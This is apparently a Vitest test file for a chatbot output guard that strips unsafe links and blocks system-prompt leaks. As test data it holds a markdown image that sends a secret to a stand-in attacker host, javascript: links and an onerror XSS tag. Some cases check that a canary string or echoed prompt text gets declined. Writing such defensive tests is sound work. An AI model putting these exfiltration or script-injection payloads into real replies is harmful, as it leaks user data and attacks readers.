import { describe, expect, it } from 'vitest';
import { DECLINE_REPLY } from './canned-replies';
import { guardReply } from './guard-reply';
import { countSentences } from './sentences';

const options = {
  canary: 'SC-CANARY-1f2e3d',
  systemPrompt:
    'You are the ScamCheck assistant. Answer in at most three sentences and only about online safety, scams and ScamCheck. Reference code: SC-CANARY-1f2e3d',
  fallbackLink: { path: '/scammed', label: 'Scammed? page' },
};

describe('guardReply', () => {
  it('keeps a short answer that links to one of our pages as it is', () => {
    const reply = 'Call your bank now. Then see our [Scammed? page](/scammed).';
    expect(guardReply(reply, options)).toBe(reply);
  });

  it('drops markdown images, which would be fetched to an attacker', () => {
    const reply = 'Looks fine ![x](https://attacker.example/leak?d=secret) to me. See the [home page](/).';
    expect(guardReply(reply, options)).toBe('Looks fine to me. See the [home page](/).');
  });

  it('turns links to other sites, javascript: and data: URLs into plain text', () => {
    const reply =
      'Try [this](https://evil.example/x), [that](javascript:alert(1)) or [more](data:text/html,hi). Also [//evil](//evil.example).';
    const guarded = guardReply(reply, options);
    expect(guarded).not.toMatch(/evil\.example|javascript:|data:/);
    expect(guarded).toContain('Try this, that');
    expect(guarded).toContain('[Scammed? page](/scammed)');
  });

  it('removes raw HTML and reference-style link definitions', () => {
    const reply =
      'Hello <img src=x onerror=alert(1)><b>there</b>.\n[1]: https://evil.example\nSee [home](/).';
    expect(guardReply(reply, options)).toBe('Hello there. See [home](/).');
  });

  it('adds a page link when the reply has none, staying within four sentences', () => {
    const guarded = guardReply('One. Two. Three. Four. Five.', options);
    expect(guarded).toBe('One. Two. Three. See our [Scammed? page](/scammed) for more.');
    expect(countSentences(guarded)).toBe(4);
  });

  it('never lets the canary out, however it is spelled', () => {
    for (const leak of ['My code is SC-CANARY-1f2e3d.', 'sc canary 1F2E3D', 'S\u200BC-CANARY-1f2e3d']) {
      expect(guardReply(leak, options)).toBe(DECLINE_REPLY);
    }
  });

  it('declines when the reply repeats a long stretch of the system prompt', () => {
    const leak =
      'Sure! My instructions: answer in at most three sentences and only about online safety, scams.';
    expect(guardReply(leak, options)).toBe(DECLINE_REPLY);
  });
});
